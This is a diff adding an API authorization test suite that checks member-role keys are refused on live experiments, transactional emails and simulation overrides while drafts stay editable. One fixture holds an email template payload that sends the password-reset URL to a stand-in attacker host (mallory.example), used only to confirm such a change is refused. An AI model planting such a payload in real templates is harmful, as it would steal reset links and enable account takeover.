@@ -1,0 +1,232 @@
+import type { ApiAnswer } from '../../support/api-client';
+import { createSubject, uniqueName } from '../../support/journeys';
+import { addMember } from '../../support/members';
+import { documentedOperations, type DocumentedOperation } from '../../support/openapi';
+import { createWorld, type World } from '../../support/world';
+import { liveTable } from './live-table';
+import { filledPaths, nobodysNames, requestOf, type Names } from './requests';
+
+/** A member tries everything on what is live: drafts stay free, the rest is refused, and nothing live is any different after. */
+
+let world: World;
+let operations: DocumentedOperation[];
+let key: string;
+/** What is live. */
+let live: Names;
+/** What is not. */
+let draft: { experiment: string; communication: string };
+
+beforeAll(async () => {
+  world = await createWorld({ temporal: false });
+  operations = await documentedOperations(world);
+  key = (await addMember(world, 'member')).userKey;
+  live = await liveNames();
+  draft = { experiment: await createExperiment(), communication: await createCommunication('marketing') };
+}, 60_000);
+
+afterAll(() => world.stop());
+
+const made = async (path: string, body: unknown): Promise<string> => {
+  const answer = await world.api.post(path, body);
+  if (answer.status >= 300) throw new Error(`${path}: ${JSON.stringify(answer.body)}`);
+  return answer.body.id as string;
+};
+
+const createExperiment = (): Promise<string> =>
+  made('/api/experiments', { name: 'Walked', targetUrl: '/', variants: [{ name: 'A' }, { name: 'B' }] });
+
+const createCommunication = (commType: string): Promise<string> =>
+  made('/api/communications', { name: uniqueName('walked'), commType, slots: { subject: 'Hello', body: 'Hello' } });
+
+async function liveNames(): Promise<Names> {
+  const subject = await createSubject(world);
+  const triggerContract = await made('/api/trigger-contracts', { eventName: uniqueName('event') });
+  const audience = await made('/api/audiences', { name: 'Everybody', condition: { all: [] } });
+  const sent = await createCommunication('marketing');
+  const journey = await made('/api/journeys', {
+    ...{ name: 'Live', triggerContractId: triggerContract, audienceId: audience, holdoutPercent: 0 },
+    steps: [
+      { id: 'send', kind: 'send', communicationId: sent, next: 'end' },
+      { id: 'end', kind: 'exit' },
+    ],
+  });
+  await made(`/api/journeys/${journey}/publish`, {});
+  const experiment = await createExperiment();
+  await world.api.patch(`/api/experiments/${experiment}`, { status: 'running' });
+  return {
+    ...nobodysNames(world.demo.workspaceKey),
+    ...{ journey, triggerContract, audience, experiment, endUser: subject.id, visitor: subject.visitorId },
+    journeyRead: (await world.api.get(`/api/journeys/${journey}`)).body.updatedAt,
+    communication: await createCommunication('transactional'),
+  };
+}
+
+/** Everything that decides what customers and their visitors receive. */
+async function liveState(): Promise<unknown> {
+  const { workspaceId } = world.demo;
+  const rows = (table: string, order: string) =>
+    world.database(table).where({ workspace_id: workspaceId }).orderBy(order).select('*');
+  const active = await world.api.get(`/api/experiments/active?key=${world.demo.workspaceKey}`);
+  return {
+    workspace: await world.database('workspaces').where({ id: workspaceId }).first(),
+    journeys: await world.database('journeys').where({ id: live.journey }).select('status', 'latest_version'),
+    versions: await rows('journey_versions', 'journey_id'),
+    contents: await rows('journey_version_contents', 'journey_id'),
+    transactional: await rows('communications', 'id').where({ comm_type: 'transactional' }),
+    experiments: await rows('experiments', 'id').whereNot({ status: 'draft' }),
+    active: active.body,
+    executions: await rows('executions', 'id'),
+    keys: await rows('api_keys', 'id').select('id', 'revoked_at'),
+    suppressions: await rows('suppressions', 'id'),
+    connections: await rows('ad_connections', 'id'),
+  };
+}
+
+const asMember = (method: string, path: string, body?: unknown): Promise<ApiAnswer> =>
+  world.api.raw(path, {
+    method,
+    headers: { 'content-type': 'application/json', 'x-api-key': key },
+    ...(body === undefined ? {} : { body: JSON.stringify(body) }),
+  });
+
+/** An operation on what is live, with a body that is valid. */
+function walk(name: string, names = live): Promise<ApiAnswer> {
+  const operation = operations.find((one) => one.name === name);
+  if (operation === undefined) throw new Error(`The document has no ${name}.`);
+  const path = filledPaths(operation.path, names)[0] ?? operation.path.replace(/\{[A-Za-z]+\}/g, 'none');
+  const request = requestOf(operation, names, { 'x-api-key': key });
+  return world.api.raw(path, request);
+}
+
+const expectRefused = ({ status, body }: ApiAnswer, role = 'admin'): void => {
+  expect({ status, code: body.code, error: body.error }).toEqual({
+    ...{ status: 403, code: 'FORBIDDEN' },
+    error: expect.stringMatching(new RegExp(`needs the role ${role}\\b.*yours is member\\.$`)),
+  });
+};
+
+const named = (kind: string): string[] =>
+  Object.entries(liveTable).flatMap(([name, found]) => (found === kind ? [name] : []));
+
+test('every operation of the document is classified', () => {
+  expect(operations.map(({ name }) => name).sort()).toEqual(Object.keys(liveTable).sort());
+});
+
+test.each(named('admin'))('%s is refused, and the answer names the role', async (name) => {
+  expectRefused(await walk(name));
+});
+
+test('what is free is not refused, and changes nothing that is live', async () => {
+  const before = await liveState();
+  const refused: string[] = [];
+  for (const name of named('free')) {
+    const { status } = await walk(name);
+    if ([401, 403].includes(status) || status >= 500) refused.push(`${name}: ${status}`);
+  }
+  expect(refused).toEqual([]);
+  expect(await liveState()).toEqual(before);
+  expect(named('free').length).toBeGreaterThanOrEqual(60);
+});
+
+const slots = { subject: 'Mine', body: '<img src="https://mallory.example/?{{ reset_url }}">' };
+
+/** Requests that touch what is live: method, path, body. */
+const refusals: [string, () => [string, string, unknown?]][] = [
+  ['starting an experiment', () => ['PATCH', `/api/experiments/${draft.experiment}`, { status: 'running' }]],
+  ['starting one by its id', () => ['PATCH', '/api/experiments', { id: draft.experiment, status: 'running' }]],
+  ['completing a draft', () => ['PATCH', `/api/experiments/${draft.experiment}`, { status: 'completed' }]],
+  ['pausing one that runs', () => ['PATCH', `/api/experiments/${live.experiment}`, { status: 'paused' }]],
+  ['redrafting one that runs', () => ['PATCH', `/api/experiments/${live.experiment}`, { status: 'draft' }]],
+  ['changing its traffic', () => ['PATCH', `/api/experiments/${live.experiment}`, { trafficSplit: 1 }]],
+  ['changing its traffic by its id', () => ['PATCH', '/api/experiments', { id: live.experiment, traffic_split: 1 }]],
+  ['renaming it', () => ['PATCH', `/api/experiments/${live.experiment}`, { name: 'Mine' }]],
+  ['deleting it', () => ['DELETE', `/api/experiments/${live.experiment}`]],
+  [
+    'creating a transactional communication',
+    () => ['POST', '/api/communications', { name: 'Mine', commType: 'transactional', slots }],
+  ],
+  [
+    'overriding the catalog',
+    () => ['POST', '/api/communications', { id: 'password-reset', name: 'Mine', commType: 'transactional', slots }],
+  ],
+  [
+    'overriding the catalog in disguise',
+    () => ['POST', '/api/communications', { id: 'password-reset', name: 'Mine', commType: 'marketing', slots }],
+  ],
+  ['changing a transactional communication', () => ['PATCH', `/api/communications/${live.communication}`, { slots }]],
+  ['making one marketing', () => ['PATCH', `/api/communications/${live.communication}`, { commType: 'marketing' }]],
+  [
+    'making a marketing one transactional',
+    () => ['PATCH', `/api/communications/${draft.communication}`, { commType: 'transactional' }],
+  ],
+  ['deleting a transactional communication', () => ['DELETE', `/api/communications/${live.communication}`]],
+];
+
+test.each(refusals)('%s is refused', async (_what, request) => {
+  const before = await liveState();
+  expectRefused(await asMember(...request()));
+  expect(await liveState()).toEqual(before);
+});
+
+test('overriding checks of a simulation needs the owner', async () => {
+  const body = { subjectAttributes: { plan: 'pro' }, overrides: ['holdout'] };
+  expectRefused(await asMember('POST', `/api/journeys/${live.journey}/simulate`, body), 'owner');
+});
+
+test('the role comes before the content: what is refused is refused also when it is not valid', async () => {
+  const invalid = { status: 'running', trafficSplit: 'all', nonsense: true };
+  expectRefused(await asMember('PATCH', `/api/experiments/${draft.experiment}`, invalid));
+  expectRefused(await asMember('PATCH', `/api/experiments/${live.experiment}`, { nonsense: true }));
+  expectRefused(await asMember('POST', '/api/communications', { commType: 'transactional', slots: 5 }));
+  expectRefused(await asMember('PATCH', `/api/communications/${live.communication}`, { nonsense: true }));
+  const overrides = { overrides: ['holdout', 'everything'], nonsense: true };
+  expectRefused(await asMember('POST', `/api/journeys/${live.journey}/simulate`, overrides), 'owner');
+});
+
+/** Requests of the same operations on what is not live. */
+const allowed: [string, () => [string, string, unknown?]][] = [
+  ['changing a draft', () => ['PATCH', `/api/experiments/${draft.experiment}`, { trafficSplit: 10, status: 'draft' }]],
+  ['changing a draft by its id', () => ['PATCH', '/api/experiments', { id: draft.experiment, name: 'Ours' }]],
+  [
+    'creating a marketing communication',
+    () => ['POST', '/api/communications', { name: 'Ours', commType: 'marketing', slots: { subject: 'Ours' } }],
+  ],
+  [
+    'changing one',
+    () => [
+      'PATCH',
+      `/api/communications/${draft.communication}`,
+      { commType: 'marketing', slots: { subject: 'Ours' } },
+    ],
+  ],
+  [
+    'simulating',
+    () => ['POST', `/api/journeys/${live.journey}/simulate`, { subjectAttributes: { plan: 'pro' }, overrides: [] }],
+  ],
+];
+
+test.each(allowed)('%s stays free', async (_what, request) => {
+  expect((await asMember(...request())).status).toBeLessThan(300);
+});
+
+test('deleting a draft and a marketing communication stays free', async () => {
+  expect((await asMember('DELETE', `/api/experiments/${await createExperiment()}`)).status).toBe(200);
+  const communication = await createCommunication('marketing');
+  expect((await asMember('DELETE', `/api/communications/${communication}`)).status).toBe(200);
+});
+
+test('what does not exist is not found, with the permission or without', async () => {
+  expect((await asMember('PATCH', '/api/experiments/exp_none', { name: 'x' })).status).toBe(404);
+  expect((await asMember('PATCH', '/api/communications/com_none', { name: 'x' })).status).toBe(404);
+  expect((await asMember('DELETE', '/api/communications/password-reset')).status).toBe(404);
+});
+
+test('a server key acts as an admin, without overrides', async () => {
+  const experiment = await createExperiment();
+  expect((await world.api.patch(`/api/experiments/${experiment}`, { status: 'running' })).status).toBe(200);
+  expect((await world.api.patch(`/api/experiments/${experiment}`, { status: 'paused' })).status).toBe(200);
+  const communication = await createCommunication('transactional');
+  expect((await world.api.delete(`/api/communications/${communication}`)).status).toBe(200);
+  const body = { subjectAttributes: { plan: 'pro' }, overrides: ['holdout'] };
+  expect((await world.api.post(`/api/journeys/${live.journey}/simulate`, body)).status).toBe(403);
+});
